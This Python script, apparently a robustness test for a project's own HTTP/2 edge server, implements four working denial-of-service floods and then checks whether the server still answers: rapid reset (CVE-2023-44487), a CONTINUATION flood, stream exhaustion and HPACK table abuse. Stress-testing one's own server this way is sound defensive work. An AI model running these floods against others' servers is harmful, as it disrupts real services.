#!/usr/bin/env python3
"""HTTP/2 abuse against clickedge's TLS listener: one flood a run.

Usage:
    pip install h2          # pure-Python HTTP/2 state machine (and hpack)
    python3 benches/abuse/h2_floods.py --host 127.0.0.1 --port 8443 \
        --attack {rapid_reset,continuation,streams,hpack} [--count N] [--seconds S]

Connects over TLS (no certificate check, ALPN "h2") and sends one attack:

  rapid_reset   N times: HEADERS (GET /healthz) at once followed by
                RST_STREAM(CANCEL) on the same stream (CVE-2023-44487).
  continuation  HEADERS without END_HEADERS, then up to N CONTINUATION frames
                of junk header block (valid literal fields, never indexed),
                never END_HEADERS (the 2024 CONTINUATION flood). Built with
                struct: h2 always ends a header block.
  streams       N streams (GET /healthz) opened without END_STREAM, never
                closed, responses not read while they are being opened. The
                server's SETTINGS never reach h2 (our own parser reads them),
                so h2 does not stop at SETTINGS_MAX_CONCURRENT_STREAMS: the
                server has to.
  hpack         SETTINGS_HEADER_TABLE_SIZE = 2^32-1 (the largest the frame can
                carry), then requests of many large headers, each a literal
                with incremental indexing (h2's encoder indexes them all),
                every name new.

The attack stops at N, when the server closes the connection, or in time
to leave --hold seconds (default 2, at most half of --seconds) of reading
the server's reaction before --seconds, a hard limit on the whole attack. Everything the server sends is read only to spot GOAWAY, a close,
RST_STREAMs and response HEADERS; the server's SETTINGS are acknowledged.

Then, as a check that the edge still serves, a FRESH TLS+h2 connection does
an ordinary GET /healthz. One JSON line goes to stdout:

  {"attack", "sent", "goaway" (error code name or null),
   "closed_by_server", "seconds" (the attack's), "healthz_after" (status or
   null), and for information "rst_received" (RST_STREAMs by error code),
   "headers_received",
   "statuses" (response HEADERS by :status), "error"}

"sent" counts attack units: streams reset, CONTINUATION frames, streams
opened, or requests. Exit status 0 whatever the server did; 2 for bad
arguments.
"""

import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

try:
    import hpack as hpack_codec
    import h2.config
    import h2.connection
    import h2.errors
    import h2.events
    import h2.settings
except ImportError:  # pragma: no cover - depends on the machine
    sys.exit("h2_floods.py needs the h2 package: pip install h2")

MAX_COUNT = 10_000_000
MAX_SECONDS = 600.0

# Frame types and flags (RFC 9113 §6).
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, \
    WINDOW_UPDATE, CONTINUATION = range(10)
FLAG_ACK = 0x1
FLAG_END_STREAM = 0x1
FLAG_END_HEADERS = 0x4


def frame(ftype, flags, stream_id, payload):
    """One raw HTTP/2 frame."""
    n = len(payload)
    return struct.pack(">BHBBI", n >> 16, n & 0xFFFF, ftype, flags,
                       stream_id & 0x7FFFFFFF) + payload


def error_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return "0x%x" % code


def hpack_int(value, prefix_bits, first_byte=0):
    """An HPACK integer (RFC 7541 §5.1) with the given prefix."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first_byte | value])
    out = bytearray([first_byte | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal_never_indexed(name, value):
    """A literal header field, new name, never indexed (RFC 7541 §6.2.3)."""
    return (b"\x10" + hpack_int(len(name), 7) + name +
            hpack_int(len(value), 7) + value)


class Deadline:
    def __init__(self, seconds):
        self.end = time.monotonic() + seconds

    def left(self):
        return self.end - time.monotonic()

    def over(self):
        return self.left() <= 0


class Peer:
    """A TLS+h2 connection: h2 writes the frames, a small parser reads them."""

    def __init__(self, host, port, deadline):
        self.deadline = deadline
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        raw = socket.create_connection((host, port),
                                       timeout=max(0.1, deadline.left()))
        self.sock = ctx.wrap_socket(raw, server_hostname="localhost")
        if self.sock.selected_alpn_protocol() != "h2":
            raise RuntimeError("server did not select h2 by ALPN")
        self.h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding=None))
        self.h2.initiate_connection()
        self.buf = b""
        self.goaway = None
        self.closed = False
        self.rst_received = {}
        self.headers_received = 0
        self.statuses = {}
        self.decoder = hpack_codec.Decoder()
        self.ack_settings = True
        self.settings_seen = False
        self.flush()
        # The server's SETTINGS, acknowledged before the attack begins: an
        # ACK later could land inside a header block (a PROTOCOL_ERROR).
        wait = Deadline(min(1.0, max(0.0, deadline.left())))
        while not self.settings_seen and not self.closed and not wait.over():
            self.read_once(wait.left())

    def write(self, data):
        """Sends bytes; False once the server has closed the connection."""
        if self.closed:
            return False
        try:
            self.sock.settimeout(max(0.01, self.deadline.left()))
            self.sock.sendall(data)
            return True
        except socket.timeout:
            return False  # the server stopped reading; the deadline is up
        except (OSError, ssl.SSLError):
            # What the server sent before it closed (a GOAWAY) may still be
            # readable, unless our write drew a reset.
            self.closed = True
            self.read_once(0.0)
            return False

    def flush(self):
        data = self.h2.data_to_send()
        return self.write(data) if data else not self.closed

    def poll(self, wait=0.0):
        """Reads whatever arrives within `wait` seconds (and the deadline)."""
        end = time.monotonic() + wait
        while not self.closed:
            left = min(end - time.monotonic(), self.deadline.left())
            if not self.read_once(max(0.0, left)) or left <= 0:
                return

    def read_once(self, wait):
        """One read, if something arrives within `wait` seconds; parsed.
        False when nothing came or the connection is gone."""
        try:
            if self.sock.pending() == 0:
                ready, _, _ = select.select([self.sock], [], [], wait)
                if not ready:
                    return False
            self.sock.settimeout(0.05)
            data = self.sock.recv(65536)
        except socket.timeout:
            return True  # a partial TLS record: more to come
        except (OSError, ssl.SSLError, ValueError):
            self.closed = True
            return False
        if data == b"":
            self.closed = True
            return False
        self.parse(data)
        return True

    def parse(self, data):
        self.buf += data
        while len(self.buf) >= 9:
            hi, lo, ftype, flags, sid = struct.unpack(">BHBBI", self.buf[:9])
            n = (hi << 16) | lo
            if len(self.buf) < 9 + n:
                return
            payload, self.buf = self.buf[9:9 + n], self.buf[9 + n:]
            if ftype == GOAWAY and len(payload) >= 8:
                self.goaway = error_name(struct.unpack(">I", payload[4:8])[0])
            elif ftype == RST_STREAM and len(payload) >= 4:
                code = error_name(struct.unpack(">I", payload[:4])[0])
                self.rst_received[code] = self.rst_received.get(code, 0) + 1
            elif ftype == HEADERS:
                self.headers_received += 1
                self.response_status(flags, payload)
            elif ftype == SETTINGS and not flags & FLAG_ACK:
                self.settings_seen = True
                if self.ack_settings:
                    self.write(frame(SETTINGS, FLAG_ACK, 0, b""))

    def response_status(self, flags, payload):
        """Tallies the :status of a response HEADERS frame (with our own
        HPACK decoder, which must see every block to stay in step)."""
        if self.decoder is None:
            return
        if not flags & FLAG_END_HEADERS:
            self.decoder = None  # a split block: stop decoding, stay safe
            return
        if flags & 0x8:  # PADDED
            payload = payload[1:len(payload) - payload[0]]
        if flags & 0x20:  # PRIORITY
            payload = payload[5:]
        try:
            fields = dict(self.decoder.decode(payload, raw=True))
        except Exception:  # noqa: BLE001 - a bad block: stop decoding
            self.decoder = None
            return
        status = fields.get(b":status", b"?").decode()
        self.statuses[status] = self.statuses.get(status, 0) + 1

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def request_headers(path="/healthz"):
    return [(b":method", b"GET"), (b":scheme", b"https"),
            (b":authority", b"localhost"), (b":path", path.encode())]


def rapid_reset(p, count, deadline):
    sent = 0
    while sent < count and not deadline.over() and not p.closed:
        sid = p.h2.get_next_available_stream_id()
        p.h2.send_headers(sid, request_headers(), end_stream=True)
        p.h2.reset_stream(sid, h2.errors.ErrorCodes.CANCEL)
        sent += 1
        if sent % 16 == 0:  # as fast as possible: written in batches of 16
            if not p.flush():
                break
            p.poll()
    p.flush()
    return sent


def continuation(p, count, deadline):
    p.ack_settings = False  # nothing but CONTINUATION from here on
    sid = p.h2.get_next_available_stream_id()
    block = p.h2.encoder.encode(request_headers())
    if not p.write(frame(HEADERS, 0, sid, block)):  # no END_HEADERS
        return 0
    sent = 0
    value = b"j" * 4000
    while sent < count and not deadline.over() and not p.closed:
        junk = b"".join(literal_never_indexed(b"x-junk-%d-%d" % (sent, i), value)
                        for i in range(4))  # ~16 KB, the default frame size
        if not p.write(frame(CONTINUATION, 0, sid, junk)):
            break
        sent += 1
        p.poll()  # each time: the GOAWAY is lost if a write draws a reset
    return sent


def streams(p, count, deadline):
    sent = 0
    while sent < count and not deadline.over() and not p.closed:
        sid = p.h2.get_next_available_stream_id()
        p.h2.send_headers(sid, request_headers(), end_stream=False)
        sent += 1
        if sent % 64 == 0 and not p.flush():
            break
    p.flush()
    return sent


def hpack(p, count, deadline):
    p.decoder.max_allowed_table_size = 2**32 - 1
    p.h2.update_settings(
        {h2.settings.SettingCodes.HEADER_TABLE_SIZE: 2**32 - 1})
    if not p.flush():
        return 0
    sent = 0
    value = b"v" * 3000
    while sent < count and not deadline.over() and not p.closed:
        extra = [(b"x-fill-%d-%d" % (sent, i), value) for i in range(40)]
        sid = p.h2.get_next_available_stream_id()
        p.h2.send_headers(sid, request_headers() + extra, end_stream=True)
        sent += 1
        if not p.flush():
            break
        if sent % 8 == 0:
            p.poll()
    return sent


ATTACKS = {"rapid_reset": rapid_reset, "continuation": continuation,
           "streams": streams, "hpack": hpack}


def healthz(host, port, timeout=5.0):
    """A normal GET /healthz on a fresh connection: the status, or None."""
    deadline = Deadline(timeout)
    try:
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        with socket.create_connection((host, port), timeout=timeout) as raw, \
                ctx.wrap_socket(raw, server_hostname="localhost") as s:
            if s.selected_alpn_protocol() != "h2":
                return None
            c = h2.connection.H2Connection(
                h2.config.H2Configuration(client_side=True, header_encoding=None))
            c.initiate_connection()
            sid = c.get_next_available_stream_id()
            c.send_headers(sid, request_headers(), end_stream=True)
            s.sendall(c.data_to_send())
            status = None
            while not deadline.over():
                s.settimeout(max(0.01, deadline.left()))
                data = s.recv(65536)
                if not data:
                    return status
                for ev in c.receive_data(data):
                    if isinstance(ev, h2.events.ResponseReceived):
                        status = int(dict(ev.headers)[b":status"])
                    elif isinstance(ev, h2.events.DataReceived):
                        c.acknowledge_received_data(
                            ev.flow_controlled_length, ev.stream_id)
                    elif isinstance(ev, (h2.events.StreamEnded,
                                         h2.events.StreamReset,
                                         h2.events.ConnectionTerminated)):
                        return status
                out = c.data_to_send()
                if out:
                    s.sendall(out)
            return status
    except Exception:  # noqa: BLE001 - any failure means "no answer"
        return None


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--attack", choices=sorted(ATTACKS), required=True)
    ap.add_argument("--count", type=int, default=10000,
                    help="attack units, 1 to %d (default 10000)" % MAX_COUNT)
    ap.add_argument("--seconds", type=float, default=10.0,
                    help="hard limit on the attack, 0.1 to %d (default 10)"
                    % MAX_SECONDS)
    ap.add_argument("--hold", type=float, default=2.0,
                    help="seconds to keep reading after the last frame, for "
                    "the server's reaction (within --seconds; default 2)")
    a = ap.parse_args()
    if not 1 <= a.count <= MAX_COUNT:
        ap.error("--count must be 1 to %d" % MAX_COUNT)
    if not 0.1 <= a.seconds <= MAX_SECONDS:
        ap.error("--seconds must be 0.1 to %d" % MAX_SECONDS)
    if not 0 <= a.hold <= MAX_SECONDS:
        ap.error("--hold must be 0 to %d" % MAX_SECONDS)
    if not 1 <= a.port <= 65535:
        ap.error("--port must be 1 to 65535")

    start = time.monotonic()
    deadline = Deadline(a.seconds)
    # Sending stops early enough to leave --hold (at most half the time)
    # for the server's reaction.
    sending = Deadline(a.seconds - min(a.hold, a.seconds / 2))
    result = {"attack": a.attack, "sent": 0, "goaway": None,
              "closed_by_server": False, "seconds": 0.0}
    p = None
    try:
        p = Peer(a.host, a.port, sending)
        result["sent"] = ATTACKS[a.attack](p, a.count, sending)
        # The server's reaction: GOAWAY, a close, or nothing.
        p.deadline = deadline
        p.poll(wait=max(0.0, min(a.hold, deadline.left())))
    except Exception as e:  # noqa: BLE001 - the server may close at any point
        result["error"] = "%s: %s" % (type(e).__name__, e)
    finally:
        result["seconds"] = round(time.monotonic() - start, 3)
        if p is not None:
            result["goaway"] = p.goaway
            result["closed_by_server"] = p.closed
            result["rst_received"] = p.rst_received
            result["headers_received"] = p.headers_received
            result["statuses"] = p.statuses
            p.close()
    result["healthz_after"] = healthz(a.host, a.port)
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
